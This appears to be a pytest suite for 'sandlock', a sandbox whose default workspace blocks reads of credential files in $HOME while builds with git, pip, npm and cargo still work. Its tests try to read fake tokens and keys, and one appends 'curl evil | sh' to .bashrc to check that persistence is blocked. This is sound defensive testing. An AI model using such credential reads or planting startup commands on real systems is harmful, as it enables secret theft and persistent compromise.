"""The default workspace is deny by default for $HOME (issue 12): real programs build in
the workspace with a realistic home around them, and nothing of that home but its
tools and caches is readable: tokens, keyrings, histories, browser profiles and the
user's other projects stay out of reach."""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
from pathlib import Path

import pytest

from conftest import SANDLOCK, sandlock
from sandlock import Policy, PolicyError, Sandbox
from test_policy_docs import wheel

SECRETS = {
    ".config/gh/hosts.yml": "github.com:\n  oauth_token: gho_secret\n",
    ".local/share/keyrings/login.keyring": "secret",
    ".bash_history": "export TOKEN=secret\n",
    ".mozilla/firefox/p/cookies.sqlite": "secret",
    ".vault-token": "secret",
    ".pgpass": "db:5432:*:me:secret\n",
    ".cargo/credentials.toml": '[registry]\ntoken = "secret"\n',
    ".ssh/id_ed25519": "secret",
    "other-project/.env": "API_KEY=secret\n",  # named by no list: denied by default
    "notes.txt": "secret",
}


@pytest.fixture
def home(unscratched):
    """A fake $HOME outside every scratch directory (/tmp would be writable anyway),
    with secrets, a tool, git settings and a project to work in."""
    root = unscratched
    for name, text in SECRETS.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    tool = root / ".local" / "bin" / "hello-tool"
    tool.parent.mkdir(parents=True)
    tool.write_text("#!/bin/sh\necho tool ran\n")
    tool.chmod(0o755)
    (root / ".gitconfig").write_text("[user]\n\tname = Agent\n\temail = agent@example.test\n")
    (root / ".cache").mkdir()
    (root / "proj").mkdir()
    for path in [root, *root.rglob("*")]:  # for the unprivileged case
        os.chmod(path, 0o755 if path.is_dir() or path == tool else 0o644)
    return root


def run(home: Path, script: str, *options: str, cwd: Path | None = None, env=None,
        as_user=lambda argv: argv, timeout: int = 120) -> subprocess.CompletedProcess:
    environment = {**os.environ, "HOME": str(home), **(env or {})}
    environment.pop("XDG_CACHE_HOME", None)
    argv = as_user([*SANDLOCK, "run", *options, "--", "sh", "-c", script])
    return subprocess.run(argv, cwd=cwd or home / "proj", env=environment, capture_output=True,
                          text=True, timeout=timeout)


def test_nothing_of_home_is_readable_but_its_tools(home):
    reads = " ".join(f'cat "$HOME/{name}" >/dev/null 2>&1 && echo "read {name}";' for name in SECRETS)
    result = run(home, reads + " ls \"$HOME\" >/dev/null 2>&1 && echo listed; hello-tool",
                 env={"PATH": f"{home}/.local/bin:/usr/bin:/bin"})
    assert result.returncode == 0, result.stderr
    assert result.stdout == "tool ran\n"  # no secret read, $HOME not even listed


def test_git_commit_uses_the_homes_settings(home):
    result = run(home, "git init -q && echo x > f && git add f && git commit -qm first && "
                 "git log --format=%an")
    assert (result.returncode, result.stdout) == (0, "Agent\n"), result.stderr


def test_git_in_a_subdirectory_of_a_repository(home):
    subprocess.run(["git", "init", "-q", str(home / "proj")], check=True)
    (home / "proj" / "sub").mkdir()
    result = run(home, "echo y > g && git add g && git commit -qm sub && git status --short",
                 cwd=home / "proj" / "sub")
    assert result.returncode == 0, result.stderr


def test_pip_installs_into_a_venv_in_the_workspace(home, tmp_path):
    name = wheel(tmp_path)
    result = run(home, f"python3 -m venv .venv && .venv/bin/pip install -q --no-index "
                 f"{tmp_path / name} && .venv/bin/python -c 'import tinypkg; print(tinypkg.VALUE)'",
                 env={"PATH": "/usr/bin:/bin"}, timeout=240)
    assert (result.returncode, result.stdout.strip()) == (0, "42"), result.stderr


def test_c_with_make_and_node(home):
    (home / "proj" / "hello.c").write_text('#include <stdio.h>\nint main(){puts("built");}\n')
    (home / "proj" / "Makefile").write_text("hello: hello.c\n\tcc -o hello hello.c\n")
    result = run(home, "make -s && ./hello && node -e \"console.log(require('fs')"
                 ".readFileSync('hello.c','utf8').length > 0)\"")
    assert (result.returncode, result.stdout) == (0, "built\ntrue\n"), result.stderr


def test_npm_fills_its_cache_in_home(home, tmp_path):
    package = tmp_path / "leftpad"
    package.mkdir()
    (package / "package.json").write_text('{"name": "leftpad", "version": "1.0.0"}')
    (package / "index.js").write_text("module.exports = 1;\n")
    result = run(home, f"npm pack -q {package} >/dev/null && npm install -q --no-audit --no-fund "
                 "--offline ./leftpad-1.0.0.tgz && node -e \"console.log(require('leftpad'))\" "
                 "&& ls \"$HOME/.npm\" | grep -q _cacache && echo cached",
                 env={"PATH": "/usr/bin:/bin"}, timeout=240)
    assert result.returncode == 0, result.stderr
    assert result.stdout.split()[-2:] == ["1", "cached"]


@pytest.mark.skipif(shutil.which("cargo") is None, reason="no cargo here")
def test_cargo_builds_with_the_users_toolchain(home):
    cargo = Path(shutil.which("cargo")).resolve().parent.parent  # CARGO_HOME
    rustup = Path(os.environ.get("RUSTUP_HOME", cargo.parent / ".rustup"))
    result = run(home, "cargo new -q --vcs none app && cd app && cargo build -q --offline && "
                 "./target/debug/app",
                 env={"CARGO_HOME": str(cargo), "RUSTUP_HOME": str(rustup),
                      "PATH": f"{cargo}/bin:/usr/bin:/bin"}, timeout=300)
    assert (result.returncode, result.stdout) == (0, "Hello, world!\n"), result.stderr


def test_home_itself_is_refused_as_the_workspace(home):
    result = run(home, "true", cwd=home)
    assert result.returncode == 2
    assert "would make" in result.stderr and "your home directory" in result.stderr
    assert "-w/--fs-write" in result.stderr and "--cwd DIR" in result.stderr
    assert run(home, "true", cwd=Path("/")).returncode == 2
    # --workdir names the workspace wherever sandlock itself runs
    elsewhere = run(home, "pwd", "--workdir", str(home / "proj"), cwd=home)
    assert (elsewhere.returncode, elsewhere.stdout) == (0, f"{home / 'proj'}\n"), elsewhere.stderr


def test_widening_variables_add_to_the_default_workspace(home):
    other = home / "other-project"
    env = {"SANDLOCK_FS_READ": str(other), "SANDLOCK_FS_WRITE": str(home / "out")}
    (home / "out").mkdir()
    result = run(home, f'cat "{other}/.env" && echo w > "$HOME/out/w" && cat "$HOME/notes.txt"',
                 env=env)
    assert result.stdout == "API_KEY=secret\n" and result.returncode != 0  # notes.txt still out
    assert (home / "out" / "w").read_text() == "w\n"
    printed = subprocess.run([*SANDLOCK, "run", "--print-policy"], cwd=home / "proj",
                             env={**os.environ, **env}, capture_output=True, text=True)
    assert f"# SANDLOCK_FS_READ adds to the default workspace: {other}" in printed.stdout


def test_deny_by_default_unprivileged(home, as_nobody):
    reads = " ".join(f'cat "$HOME/{name}" >/dev/null 2>&1 && echo "read {name}";' for name in SECRETS)
    os.chmod(home / "proj", 0o777)
    result = run(home, reads + " echo done", as_user=as_nobody)
    assert (result.returncode, result.stdout) == (0, "done\n"), result.stderr


def test_explicit_grants_still_deny_the_new_credential_stores(home):
    result = run(home, 'cat "$HOME/.config/gh/hosts.yml"', "-r", "/", "-w", str(home / "proj"))
    assert result.returncode != 0 and "Permission denied" in result.stderr


# --- modes (LocalGPT 3.3) -----------------------------------------------------------------


def test_read_only_mode_reads_like_the_default_and_writes_nothing(home):
    (home / "proj" / "src.txt").write_text("source\n")
    script = ('cat src.txt; for f in new "$HOME/.cache/x" /tmp/sandlock-ro; do '
              'echo x > "$f" 2>/dev/null && echo "wrote $f"; done; echo y > /dev/null && echo null')
    result = run(home, script, "--mode", "read-only")
    assert (result.returncode, result.stdout) == (0, "source\nnull\n"), result.stderr
    assert not (home / "proj" / "new").exists()


def test_full_access_needs_consent_then_opens_everything(home, tmp_path):
    refused = run(home, "true", "--mode", "full-access")
    assert refused.returncode == 2 and "--dangerously-allow-full-access" in refused.stderr
    server = socket.create_server(("127.0.0.71", 0))
    audit = tmp_path / "audit.jsonl"
    with server:
        script = (f'cat "$HOME/notes.txt"; python3 -c "import socket; '
                  f"socket.create_connection(('127.0.0.71', {server.getsockname()[1]})); print(' net')\"")
        result = run(home, script, "--mode", "full-access", "--dangerously-allow-full-access", "-q",
                     "--audit", str(audit))
    assert (result.returncode, result.stdout) == (0, "secret net\n"), result.stderr
    assert "full-access mode: sh runs unconfined" in result.stderr  # even with -q
    records = [json.loads(line) for line in audit.read_text().splitlines()]
    assert records[0]["event"] == "full-access" and records[0]["program"] == "sh"


@pytest.mark.parametrize(("options", "message"), [
    (["--mode", "read-only", "-w", "/tmp"], "--mode: read-only cannot be combined with --fs-write"),
    (["--mode", "full-access", "-r", "/usr"], "--mode: full-access confines nothing: --fs-read"),
    (["--mode", "whatever"], "--mode: invalid choice"),
])
def test_mode_conflicts_are_usage_errors(options, message):
    result = sandlock("run", *options, "--", "true")
    assert result.returncode == 2 and result.stderr.startswith(f"sandlock: error: {message}")


def test_modes_from_python_and_policy_files(home, tmp_path):
    with pytest.raises(PolicyError, match="dangerously-allow-full-access"):
        Sandbox(Policy(mode="full-access")).run(["true"])
    ran = Sandbox(Policy(mode="full-access"), quiet=True,
                  dangerously_allow_full_access=True).run(["cat", str(home / "notes.txt")])
    assert ran.stdout == b"secret"
    (tmp_path / "ro.toml").write_text('mode = "read-only"\n')
    result = run(home, "echo x > new", "--policy", str(tmp_path / "ro.toml"))
    assert result.returncode != 0 and not (home / "proj" / "new").exists()


def test_check_reports_the_protection_level():
    result = sandlock("check")
    assert "protection level: Full (filesystem, IPC and signal scoping" in result.stdout


def test_a_failure_names_what_the_default_workspace_left_out(home):
    notes, token = home / "notes.txt", home / ".config/gh/hosts.yml"
    failed = run(home, 'cat "$1" "$2"', cwd=home / "proj")  # sh -c: $1 $2 unset: no paths
    assert "sandlock: note" not in failed.stderr
    argv = [*SANDLOCK, "run", "--", "cat", str(notes), str(token)]
    environment = {**os.environ, "HOME": str(home)}
    result = subprocess.run(argv, cwd=home / "proj", env=environment, capture_output=True,
                            text=True, timeout=60)
    assert result.returncode == 1
    assert (f"sandlock: note: {notes} is outside the default workspace; "
            f"SANDLOCK_FS_READ={notes} (or SANDLOCK_FS_WRITE) grants it") in result.stderr
    assert f"sandlock: note: {token} is a credential store, denied in every policy" in result.stderr
    followed = subprocess.run([*SANDLOCK, "run", "--", "cat", str(notes)], cwd=home / "proj",
                              env={**environment, "SANDLOCK_FS_READ": str(notes)},
                              capture_output=True, text=True, timeout=60)
    assert (followed.returncode, followed.stdout) == (0, "secret")
    quiet = subprocess.run([*SANDLOCK, "run", "-q", "--", "cat", str(notes)], cwd=home / "proj",
                           env=environment, capture_output=True, text=True, timeout=60)
    assert quiet.returncode == 1 and "sandlock: note" not in quiet.stderr


def test_shell_startup_files_cannot_be_planted(home):
    """Nothing the user's own shell runs later can be written: $HOME is not writable."""
    (home / ".bashrc").write_text("# mine\n")
    result = run(home, 'echo "curl evil | sh" >> "$HOME/.bashrc"; '
                 'mkdir -p "$HOME/.config/autostart" && echo x > "$HOME/.config/autostart/a.desktop"')
    assert result.returncode != 0
    assert (home / ".bashrc").read_text() == "# mine\n"
    assert not (home / ".config" / "autostart").exists()
